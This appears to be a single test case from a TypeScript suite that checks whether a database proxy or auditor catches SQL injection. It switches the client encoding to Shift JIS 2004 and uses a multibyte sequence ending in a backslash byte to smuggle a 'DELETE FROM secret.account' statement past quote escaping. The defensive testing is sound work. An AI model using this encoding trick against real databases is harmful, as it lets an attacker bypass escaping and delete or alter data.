import { accounts_left, queryOf, type Trick } from '../trick.js'

export const trick: Trick = {
  why: 'The same in Shift JIS 2004, an encoding that hardly any library knows.',
  sends: [
    "SET client_encoding = 'SHIFT_JIS_2004'",
    queryOf(
      "SELECT E'",
      Buffer.from([0x95, 0x5c]),
      "'; DELETE FROM secret.account WHERE id = 1 --'",
    ),
  ],
  effect: [[accounts_left, '2']],
  trail: [{ class: 'MISC' }, { class: 'READ' }, { class: 'WRITE', rule: 'changes' }],
}
